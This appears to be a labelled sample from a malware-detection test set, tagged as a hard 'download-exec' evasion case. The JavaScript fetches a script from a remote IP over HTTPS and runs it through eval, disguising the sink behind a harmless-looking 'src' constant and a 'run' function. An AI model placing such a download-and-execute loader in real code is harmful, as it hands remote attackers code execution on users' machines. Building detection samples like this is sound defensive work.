// evasion: a parameter named like a harmless module constant, fed a download
// grade: hard; does: download-exec
const src = "console.log('hello')";
function run(src) {
  return eval(src);
}
require("https").get("https://203.0.113.9/p.js", (res) => {
  let body = "";
  res.on("data", (chunk) => (body += chunk));
  res.on("end", () => run(body));
});
